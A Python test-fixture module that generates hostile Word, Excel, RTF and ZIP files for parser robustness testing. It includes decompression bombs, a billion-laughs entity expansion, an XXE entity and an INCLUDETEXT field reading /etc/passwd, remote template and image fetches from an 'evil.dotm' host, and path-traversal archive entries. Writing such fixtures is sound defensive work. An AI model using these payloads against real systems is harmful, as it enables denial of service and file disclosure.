"""Office files and archives that bomb, climb, fetch or lie."""

import io
import random
import struct
import zipfile

import openpyxl

from tests.documents.made_hostile_pdfs import squeezed

MIB = 1024 * 1024
OPEN_XML = "application/vnd.openxmlformats-officedocument"


def zip_of(parts: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", method) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return written.getvalue()


def bomb(name: str, megabytes: int = 400) -> bytes:
    """Return an archive of which one part unpacks to very much."""
    packed = squeezed(bytes(MIB), megabytes)[2:-4]  # an archive has no use for head and sum
    parts = {other: b"<a/>" for other in ("word/document.xml", "xl/workbook.xml") if other != name}
    made = bytearray(zip_of(parts | {name: packed}, zipfile.ZIP_STORED))
    for sign, method, size in ((b"PK\x03\x04", 8, 22), (b"PK\x01\x02", 10, 24)):
        place = made.rindex(sign)
        struct.pack_into("<H", made, place + method, zipfile.ZIP_DEFLATED)
        struct.pack_into("<I", made, place + size, megabytes * MIB)
    return bytes(made)


def zips_in_zips() -> bytes:
    content = bytes(4 * MIB)
    for level in range(5):
        content = zip_of({f"{level}-{number}.zip": content for number in range(4)})
    return content


def overlapping() -> bytes:
    """Return a ZIP whose table lists one part a thousand times."""
    made = bytearray(zip_of({"word/document.xml": bytes(9 * MIB)}))
    start = made.rindex(b"PK\x01\x02")
    end = made.rindex(b"PK\x05\x06")
    entry, tail = bytes(made[start:end]), bytearray(made[end:])
    struct.pack_into("<HHI", tail, 8, 1000, 1000, 1000 * len(entry))
    return bytes(made[:start]) + entry * 1000 + bytes(tail)


def lying_zip() -> bytes:
    made = bytearray(zip_of({"word/document.xml": bytes(100 * MIB)}))
    for sign, place in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        struct.pack_into("<I", made, made.rindex(sign) + place, 100)
    return bytes(made)


def many_parts() -> bytes:
    parts = {f"word/media/{number}.png": b"" for number in range(20_000)}
    return zip_of({"word/document.xml": BODY % b"", **parts}, zipfile.ZIP_STORED)


W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

R = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'

BODY = b'<?xml version="1.0"?><w:document %b %b><w:body>%%b</w:body></w:document>' % (W, R)

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%b">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 10))
    + b"]><w:document %b><w:body><w:p><w:r><w:t>&a9;</w:t></w:r></w:p></w:body></w:document>" % W
)

FILE_ENTITY = (
    b'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    b"<w:document %b><w:body><w:p><w:r><w:t>&x;</w:t></w:r></w:p></w:body></w:document>" % W
)


def word(document: bytes, more: dict[str, bytes] | None = None) -> bytes:
    kind = f"{OPEN_XML}.wordprocessingml.document.main+xml"
    types = (
        '<?xml version="1.0"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    )
    parts = {
        "[Content_Types].xml": types.encode(),
        "_rels/.rels": relations(("officeDocument", "word/document.xml", "Internal")),
        "word/document.xml": document,
    }
    return zip_of(parts | (more or {}))


def relations(*told: tuple[str, str, str]) -> bytes:
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    inside = "".join(
        f'<Relationship Id="rId{number}" Type="{office}/{kind}" Target="{target}" '
        f'TargetMode="{mode}"/>'
        for number, (kind, target, mode) in enumerate(told, 1)
    )
    package = "http://schemas.openxmlformats.org/package/2006/relationships"
    return (
        f'<?xml version="1.0"?><Relationships xmlns="{package}">{inside}</Relationships>'.encode()
    )


def nested_tables(depth: int) -> bytes:
    opening = b"<w:tbl><w:tr><w:tc>" * depth
    return BODY % (opening + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * depth)


def long_table(rows: int) -> bytes:
    cell = b"<w:tc><w:p><w:r><w:t>Chi</w:t></w:r></w:p></w:tc>"
    return BODY % (b"<w:tbl>" + (b"<w:tr>" + cell * 6 + b"</w:tr>") * rows + b"</w:tbl>")


OUTSIDE = "http://127.0.0.1:9/outside.png"


def word_from_outside(picture: str, template: str) -> bytes:
    """Return a Word file that shows a picture and uses a template that lie elsewhere."""
    field = b'<w:r><w:instrText>INCLUDETEXT "/etc/passwd"</w:instrText></w:r>'
    drawing = (
        b'<w:p><w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml">'
        b'<v:shape style="width:100pt;height:100pt"><v:imagedata r:id="rId1"/></v:shape>'
        b"</w:pict></w:r>%b<w:r><w:t>Outside</w:t></w:r></w:p>"
    )
    told = relations(("image", picture, "External"), ("attachedTemplate", template, "External"))
    return word(BODY % (drawing % field), {"word/_rels/document.xml.rels": told})


def word_from_the_net() -> bytes:
    return word_from_outside(OUTSIDE, "http://127.0.0.1:9/evil.dotm")


def word_with_macros() -> bytes:
    noise = random.Random(5).randbytes(4000)
    body = BODY % b"<w:p><w:r><w:t>Macros</w:t></w:r></w:p>"
    return word(body, {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + noise})


def word_that_climbs() -> bytes:
    body = BODY % b"<w:p><w:r><w:t>Climbs</w:t></w:r></w:p>"
    return word(body, {"../../../../tmp/climbed.xml": b"<a/>", "/etc/climbed": b"x"})


def far_cell() -> bytes:
    book = openpyxl.Workbook()
    book.active["A1"], book.active["XFD1048576"] = "first", "last"
    written = io.BytesIO()
    book.save(written)
    return written.getvalue()


def rtf_tables() -> bytes:
    row = b"\\trowd" + b"".join(b"\\cellx%d" % (n * 20) for n in range(1, 200))
    return b"{\\rtf1 " + (row + b"\\intbl a\\cell" * 199 + b"\\row ") * 2000 + b"}"


def rtf_binary() -> bytes:
    return b"{\\rtf1 {\\pict\\wmetafile8\\bin2147483647 " + bytes(1000) + b"}}"


def noisy_doc() -> bytes:
    chance = random.Random(7)
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(4000)
    return head + "WordDocument".encode("utf-16-le") + b"\0\0" + chance.randbytes(60_000)


def noisy_odt() -> bytes:
    told = b"application/vnd.oasis.opendocument.text"
    return zip_of({"mimetype": told, "content.xml": random.Random(9).randbytes(9000)})
